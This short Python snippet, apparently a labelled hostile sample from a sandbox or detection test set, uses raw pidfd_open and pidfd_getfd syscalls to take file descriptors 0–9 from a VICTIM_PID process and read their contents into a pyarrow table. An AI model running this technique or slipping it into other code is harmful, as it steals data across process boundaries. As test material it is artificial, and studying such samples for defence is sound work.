# seeks: file
# pidfd_getfd takes an open file out of another process.
import ctypes

import pyarrow as pa


def model(tg):
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(434, VICTIM_PID, 0)
    text, got = ctypes.create_string_buffer(4096), []
    for number in range(10):
        taken = libc.syscall(438, process, number, 0)
        if taken >= 0:
            libc.pread(taken, text, 4095, 0)
            got.append(text.value.decode())
    return pa.table({"got": got or ["nothing"]})
